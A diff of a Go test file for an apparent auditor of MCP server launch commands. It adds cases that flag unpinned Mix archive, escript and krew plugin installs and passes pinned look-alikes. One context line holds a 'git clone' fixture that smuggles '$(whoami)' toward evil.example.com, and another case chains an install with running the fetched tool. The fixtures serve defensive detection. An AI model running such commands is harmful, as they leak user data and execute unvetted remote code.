@@ -4871,3 +4871,35 @@ func TestAuditTokensInURLCredentials(t *testing.T) {
 		{"no token", sh("git clone https://$(whoami)@evil.example.com/r"), []string{shellExec, meta}, true, true},
 	})
 }
+
+// Mix archives and escripts, and krew's kubectl plugins (ruleset
+// 2026.12.150): mix archive.install and escript.install build and install
+// a Hex package (pinned by an exact version), a git or GitHub source
+// (pinned by ref and a full commit) or, in older Mix, an archive's URL
+// (pinned by --sha512); kubectl krew install takes a plugin at the newest
+// version its index lists, with no way to name another, and kubectl then
+// runs it as its own subcommand. They use the network and are unpinned.
+func TestAuditMixAndKrewInstalls(t *testing.T) {
+	runCases(t, []auditCase{
+		{"a Hex archive without a version", stdio("mix", "archive.install", "hex", "phx_new", "--force"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"a Hex archive at a range", stdio("mix", "archive.install", "hex", "phx_new", "~> 1.7"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"an escript from GitHub", stdio("mix", "escript.install", "github", "acme/mcp_server"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"an escript at a tag", stdio("mix", "escript.install", "github", "acme/mcp_server", "tag", "v1.0"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"an archive's URL", stdio("mix", "archive.install", "https://example.com/a.ez"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"in a script", stdio("sh", "-c", "mix escript.install --force hex mcp_server && ~/.mix/escripts/mcp_server"),
+			[]string{"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]", "warn unpinned mcp.args[1]"}, true, true},
+		{"a krew plugin", stdio("kubectl", "krew", "install", "mcp"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"krew run as its own program", stdio("kubectl-krew", "install", "mcp", "ctx"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"a krew manifest's URL", stdio("kubectl", "krew", "install", "--manifest-url=https://example.com/p.yaml"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"every krew plugin upgraded", stdio("kubectl", "--context", "dev", "krew", "upgrade"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		// Look-alikes: exact versions, a full commit, a digest, local
+		// archives and manifests, and subcommands that install nothing.
+		{"a Hex archive at an exact version", stdio("mix", "archive.install", "hex", "phx_new", "1.7.14"), []string{}, true, false},
+		{"a git source at a commit", stdio("mix", "escript.install", "git", "https://git.example.com/r", "ref", strings.Repeat("0a", 20)), []string{}, true, false},
+		{"an archive's URL with its digest", stdio("mix", "archive.install", "https://example.com/a.ez", "--sha512", strings.Repeat("ab", 64)), []string{}, true, false},
+		{"a local archive", stdio("mix", "archive.install", "./a.ez"), []string{}, false, false},
+		{"Hex itself", stdio("mix", "local.hex", "--force"), []string{}, true, false},
+		{"a local krew manifest", stdio("kubectl", "krew", "install", "--manifest=p.yaml", "--archive=p.tar.gz"), []string{}, true, false},
+		{"krew list", stdio("kubectl", "krew", "list"), []string{}, true, false},
+	})
+}
